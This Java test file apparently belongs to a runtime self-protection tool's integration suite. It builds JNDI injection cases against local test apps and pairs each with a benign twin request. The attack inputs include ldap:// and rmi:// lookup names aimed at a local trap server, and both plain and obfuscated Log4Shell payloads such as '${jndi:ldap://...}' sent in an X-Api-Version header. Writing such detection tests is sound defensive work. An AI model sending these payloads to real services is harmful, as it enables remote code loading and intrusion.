package dev.rasp.it;

import java.util.ArrayList;
import java.util.List;

/**
 * JNDI injection against the test applications ({@code /jndi/...}): a lookup name from the request, Log4Shell
 * (the Spring app's Log4j 2.14.1 logging the {@code X-Api-Version} header), the server of an initial context's
 * provider URL, and a URL name resolved through a URL context without InitialContext. Every attack names a server on
 * the test's {@link LookupTrap}; the effect is the trap receiving a connection. Each has a benign twin on the same
 * endpoint or its {@code -entry} sibling (the application fixes the server; {@code localhost:1}, where nothing
 * listens, and which the block-mode apps allow as a JNDI host).
 */
final class JndiCases {
    private JndiCases() {}

    static final String INITIAL_CONTEXT = "javax.naming.InitialContext";
    static final String URL_CONTEXT = "com.sun.jndi.toolkit.url.GenericURLContext";
    static final String PROVIDER_URL = "javax.naming.spi.NamingManager.getInitialContext";

    /**
     * An attack: the request, the header carrying it (or null for the query), the input value, the transform, the
     * event's sink.api.
     */
    record Attack(String id, String app, String target, String header, String input, String transform, String api) {
        @Override
        public String toString() {
            return app + " " + id;
        }

        Http.Resp send(Http http) {
            return header == null ? http.get(target) : http.get(target, header, input);
        }
    }

    /** A benign request: 200, the answer holds {@code expect}. */
    record Twin(String id, String app, String target, String header, String value, String expect) {
        @Override
        public String toString() {
            return app + " " + id;
        }

        Http.Resp send(Http http) {
            return header == null ? http.get(target) : http.get(target, header, value);
        }
    }

    static List<Attack> attacks(String app, int port) {
        List<Attack> out = new ArrayList<>();
        String name = "ldap://127.0.0.1:" + port + "/a";
        out.add(new Attack("lookup-ldap", app, "/jndi/lookup?name=" + Http.enc(name), null, name, null, INITIAL_CONTEXT));
        String rmi = "rmi://127.0.0.1:" + port + "/Exploit";
        out.add(new Attack("lookup-rmi", app, "/jndi/lookup?name=" + Http.enc(rmi), null, rmi, null, INITIAL_CONTEXT));
        String server = "127.0.0.1:" + port;
        out.add(new Attack("directory-server", app, "/jndi/directory?server=" + Http.enc(server), null, server, null,
            PROVIDER_URL));
        out.add(new Attack("url-context-ldap", app, "/jndi/url-context?name=" + Http.enc(name), null, name, null,
            URL_CONTEXT));
        out.add(new Attack("url-context-rmi", app, "/jndi/url-context?name=" + Http.enc(rmi), null, rmi, null,
            URL_CONTEXT));
        if (app.equals("spring")) {
            out.add(new Attack("log4j-plain", app, "/jndi/log4j", "X-Api-Version", "${jndi:" + name + "}",
                "lookup-decoded", INITIAL_CONTEXT));
            out.add(new Attack("log4j-obfuscated", app, "/jndi/log4j", "X-Api-Version",
                "${${lower:j}ndi:${lower:l}${::-d}${env:NOTHING:-a}p://127.0.0.1:" + port + "/a}", "lookup-decoded",
                INITIAL_CONTEXT));
        }
        return out;
    }

    static List<Twin> twins(String app) {
        List<Twin> out = new ArrayList<>();
        out.add(new Twin("resource-under-java-comp", app, "/jndi/resource?name=users", null, null,
            "java:comp/env/jdbc/users"));
        out.add(new Twin("lookup-local-name", app, "/jndi/lookup?name=users", null, null, "\"name\":\"users\""));
        out.add(new Twin("directory-entry-dn", app, "/jndi/directory-entry?dn=" + Http.enc("ou=people,dc=example"), null,
            null, "ldap://localhost:1/ou=people,dc=example"));
        out.add(new Twin("url-context-entry-cn", app, "/jndi/url-context-entry?cn=alice", null, null,
            "ldap://localhost:1/cn=alice"));
        if (app.equals("spring")) {
            out.add(new Twin("log4j-plain-header", app, "/jndi/log4j", "X-Api-Version", "2.1.0 (ldap clients welcome)",
                "2.1.0"));
        }
        return out;
    }
}
